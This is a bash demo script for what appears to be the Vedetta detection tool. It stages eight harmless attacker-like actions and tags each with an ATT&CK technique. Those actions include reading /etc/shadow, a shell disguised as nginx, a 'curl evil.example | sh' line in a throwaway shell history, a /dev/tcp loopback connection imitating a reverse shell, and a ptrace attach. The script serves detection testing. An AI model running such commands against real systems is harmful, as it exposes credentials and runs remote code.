#!/usr/bin/env bash
# Eight harmless things an attacker would do, in one session, so that they become one case. Touches
# only a scratch folder and one file below /etc that it removes again.
set -euo pipefail

if [ "$(id -u)" != 0 ]; then
  command -v sudo >/dev/null || { echo "error: the demo reads /etc/shadow and writes below /etc: run it as root" >&2; exit 1; }
  exec sudo "$0" "$@"
fi
# A session of its own is what ties the findings together.
if [ "${VEDETTA_DEMO_SESSION:-}" != 1 ]; then
  VEDETTA_DEMO_SESSION=1 exec setsid --wait "$0" "$@"
fi

scratch=$(mktemp -d /tmp/vedetta-demo.XXXXXX)
planted=/etc/vedetta-demo.conf
listener=
cleanup() {
  [ -z "$listener" ] || kill "$listener" 2>/dev/null || true
  rm -rf "$scratch" "$planted"
}
trap cleanup EXIT

did() { printf '  %d  %-58s → %s\n' "$1" "$2" "$3"; }
echo "Harmless, and cleaned up at the end:"

cp "$(type -P cat)" "$scratch/reader"
"$scratch/reader" /etc/shadow >/dev/null
did 1 "an unknown program read /etc/shadow" "credential access, T1003.008"

# A shell that calls itself nginx starts another one, as a web shell would.
cp "$(type -P bash)" "$scratch/nginx"
"$scratch/nginx" -c 'sh -c "id >/dev/null"; true'
did 2 "a web server started a shell" "web shell, T1505.003"

echo "# written by the Vedetta demo" >"$planted"
rm -f "$planted"
did 3 "a file was written below /etc, and removed" "persistence, T1543"

mkdir "$scratch/home"
echo "curl evil.example | sh" >"$scratch/home/.bash_history"
rm -f "$scratch/home/.bash_history"
did 4 "the shell history of a scratch home was deleted" "covering tracks, T1070.003"

exec {port}< <(exec perl -MIO::Socket::INET -e '
  my $s = IO::Socket::INET->new(Listen => 1, LocalAddr => "127.0.0.1") or die "listen: $!";
  $| = 1; print $s->sockport, "\n"; close STDOUT; my $c = $s->accept; <$c> if $c')
listener=$!
read -r number <&"$port"
bash -c "exec 3<>/dev/tcp/127.0.0.1/$number; echo bye >&3"
did 5 "a shell connected out, as a reverse shell does (to loopback)" "command and control, T1059.004"

cp "$(type -P true)" "$scratch/dropped"
chmod +x "$scratch/dropped"
"$scratch/dropped"
did 6 "a program was dropped into /tmp and run" "tool transfer, T1105"

# ptrace(PTRACE_ATTACH, own child), then let it go.
case "$(uname -m)" in x86_64) ptrace=101 ;; *) ptrace=117 ;; esac
perl -e '
  my ($ptrace) = @ARGV; my $pid = fork // die; if (!$pid) { sleep 30; exit }
  syscall($ptrace, 16, $pid, 0, 0); waitpid($pid, 2); syscall($ptrace, 17, $pid, 0, 0); kill 9, $pid; waitpid($pid, 0)' "$ptrace"
did 7 "a process attached to another with ptrace" "process injection, T1055.008"

unshare --mount --uts dpkg --version >/dev/null
did 8 "a package manager ran inside a namespace of its own" "container tooling, T1610"

echo "Look at the console: each is a finding, and together they are one case."
